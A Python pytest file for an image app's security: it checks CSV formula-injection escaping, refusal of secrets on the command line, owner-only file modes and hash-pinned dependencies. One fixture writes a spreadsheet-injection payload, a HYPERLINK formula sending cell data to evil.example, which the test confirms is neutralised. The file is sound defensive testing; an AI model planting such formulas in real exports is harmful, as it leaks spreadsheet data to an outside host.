"""What leaves the app as a file or is read from a terminal: alt-text.csv cells inert in a spreadsheet, secrets
never on a command line, the data folder readable by its owner only, dependencies installed from hashes."""

from __future__ import annotations

import csv
import io
import re
import stat
import zipfile
from pathlib import Path

import pytest
from sqlmodel import select, text

from lib import archive, cli
from lib.connections import list_connections, read_secret
from lib.spreadsheet import csv_text, inert_cell
from tests.emulators.gemini import VALID_KEY
from tests.security.corpus import FORMULAS
from tests.ui.conftest import make_job

ROOT = Path(__file__).resolve().parents[2]


# alt-text.csv -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_cell_is_made_inert(cell):
    [row] = list(csv.reader(io.StringIO(csv_text([[cell]]))))
    assert row == ["'" + cell] and inert_cell("Blue mug") == "Blue mug"


def test_alt_text_csv_in_the_zip_has_no_live_formula(rt):
    from lib.models import Asset

    job_id = make_job(rt, ["1"])
    with rt.db.transaction() as s:  # a product name and an alt text written by an attacker
        for asset in s.exec(select(Asset).where(Asset.job_id == job_id)).all():
            asset.alt_text = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
            asset.review_state = "approved"
            s.add(asset)
    data, n = archive.approved_zip(rt, job_id)
    assert n >= 1
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        rows = list(csv.reader(io.StringIO(zf.read("alt-text.csv").decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells and not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells


# CLI secrets --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "argv",
    [
        ["connect", "gemini", "--api-key", "AIza-secret"],
        ["connect", "woocommerce", "--url", "http://shop.example", "--wp-user", "u", "--secret", "cs_secret"],
        [
            "connect",
            "woocommerce",
            "--url",
            "http://shop.example",
            "--wp-user",
            "u",
            "--key",
            "ck",
            "--app-password",
            "p w",
        ],
    ],
    ids=["gemini key", "consumer secret", "key and application password"],
)
def test_a_secret_given_as_an_argument_is_refused_with_a_sentence(rt, capsys, argv):
    assert cli.main(argv, rt=rt) == 2
    err = capsys.readouterr().err
    assert "every user of this machine can read it" in err and "environment" in err
    assert "AIza-secret" not in err and "cs_secret" not in err
    assert list_connections(rt.db) == []


def test_connect_gemini_reads_the_key_from_the_environment_and_tests_it(rt, capsys, monkeypatch):
    from tests.emulators.gemini import GeminiEmulator

    with GeminiEmulator() as emu:
        rt.settings.gemini_base_url = emu.url
        monkeypatch.setenv("GEMINI_API_KEY", VALID_KEY)
        code = cli.main(["connect", "gemini"], rt=rt)
    out, err = capsys.readouterr()
    assert code == 0, err
    [conn] = list_connections(rt.db, "gemini")
    assert read_secret(rt.vault, conn)["api_key"]
    assert "Saved gemini connection" in out


def test_connect_gemini_with_a_bad_key_says_so_instead_of_crashing(rt, capsys, monkeypatch):
    from tests.emulators.gemini import GeminiEmulator

    with GeminiEmulator() as emu:
        rt.settings.gemini_base_url = emu.url
        monkeypatch.setenv("GEMINI_API_KEY", "not-a-key")
        code = cli.main(["connect", "gemini"], rt=rt)
    err = capsys.readouterr().err
    assert code == 2 and err.startswith("error: ") and "Traceback" not in err
    assert list_connections(rt.db, "gemini") == []


def test_secrets_can_come_from_standard_input(rt, capsys, monkeypatch, woo_emu):
    from tests.emulators.woocommerce import APP_PASSWORD, CONSUMER_KEY, CONSUMER_SECRET, WP_USER

    monkeypatch.setattr("sys.stdin", io.StringIO(f"{CONSUMER_KEY}\n{CONSUMER_SECRET}\n{APP_PASSWORD}\n"))
    code = cli.main(["connect", "woocommerce", "--url", woo_emu.url, "--wp-user", WP_USER], rt=rt)
    assert code == 0, capsys.readouterr().err
    [conn] = list_connections(rt.db, "woocommerce")
    assert read_secret(rt.vault, conn)["consumer_secret"] == CONSUMER_SECRET


def test_secrets_are_asked_for_without_echo_at_a_terminal(rt, capsys, monkeypatch):
    asked: list[str] = []

    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    monkeypatch.setattr("sys.stdin", Tty())
    monkeypatch.setattr("getpass.getpass", lambda prompt: asked.append(prompt) or "")
    assert cli.main(["connect", "gemini", "--skip-check"], rt=rt) == 2
    assert asked == ["Gemini API key: "]
    assert "No Gemini API key was given" in capsys.readouterr().err


# Permissions --------------------------------------------------------------------------------------------------


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_data_and_blob_folders_are_0700_and_the_database_and_its_wal_0600(rt):
    from tests.conftest import png_bytes

    sha = rt.blobs.put(png_bytes())
    with rt.db.session() as s:  # an open connection: SQLite keeps its -wal and -shm files
        s.exec(text("SELECT 1"))
        with rt.db.transaction() as w:
            w.exec(text("CREATE TABLE IF NOT EXISTS perm_probe (x)"))
        db = Path(rt.settings.db_url.split("sqlite:///", 1)[1])
        files = [db, db.with_name(db.name + "-wal"), db.with_name(db.name + "-shm")]
        assert all(f.exists() for f in files)
        assert {f.name: mode(f) for f in files} == {f.name: 0o600 for f in files}
    home = rt.settings.home
    blob = rt.blobs.path(sha)
    folders = [home, rt.settings.blob_dir, blob.parent, blob.parent.parent]
    assert {str(f): mode(f) for f in folders} == {str(f): 0o700 for f in folders}
    assert mode(blob) == 0o600
    rt.blobs.thumbnail(sha, 64)
    thumbs = rt.settings.blob_dir / "thumbs"
    assert all(mode(p) == 0o700 for p in thumbs.rglob("*") if p.is_dir()) and mode(thumbs) == 0o700


def test_an_existing_data_folder_with_loose_modes_is_tightened_when_opened(tmp_path):
    from tests.conftest import make_runtime

    home = tmp_path / "data"
    (home / "blobs").mkdir(parents=True, mode=0o755)
    (home / "imagegecko.db").touch(mode=0o644)
    make_runtime(home).db.dispose()
    assert (mode(home), mode(home / "blobs"), mode(home / "imagegecko.db")) == (0o700, 0o700, 0o600)


# Pinned dependencies ------------------------------------------------------------------------------------------


def pins(lock: Path) -> dict[str, list[str]]:
    """package -> its hashes, from a lock file."""
    found: dict[str, list[str]] = {}
    current = None
    for line in lock.read_text().splitlines():
        m = re.match(r"^([A-Za-z0-9_.\-\[\]]+)==(\S+)", line)
        if m:
            current = m.group(1).lower().split("[")[0]
            found[current] = []
        elif current and "--hash=sha256:" in line:
            found[current].append(line.split("--hash=sha256:")[1].split()[0])
    return found


def names(requirements: Path) -> set[str]:
    out = set()
    for line in requirements.read_text().splitlines():
        line = line.split("#", 1)[0].strip()
        if line and not line.startswith("-"):
            out.add(re.split(r"[<>=!~\[ ;]", line, maxsplit=1)[0].lower().replace("_", "-"))
    return out


def test_the_lock_files_pin_every_requirement_with_hashes():
    runtime, dev = pins(ROOT / "requirements.lock"), pins(ROOT / "requirements-dev.lock")
    assert names(ROOT / "requirements.txt") <= set(runtime)
    assert names(ROOT / "requirements.txt") | names(ROOT / "requirements-dev.txt") <= set(dev)
    assert all(hashes for hashes in {**runtime, **dev}.values())


def test_make_run_make_test_and_ci_install_from_the_locks_with_hashes():
    makefile = (ROOT / "Makefile").read_text()
    assert "pip install -q --require-hashes -r requirements.lock" in makefile
    assert "pip install -q --require-hashes -r requirements-dev.lock" in makefile
    assert not re.search(r"pip install[^\n]*-r requirements(-dev)?\.txt", makefile)
    assert "make test" in (ROOT / ".ci" / "run").read_text()
    assert re.search(r"^lock:", makefile, re.M)
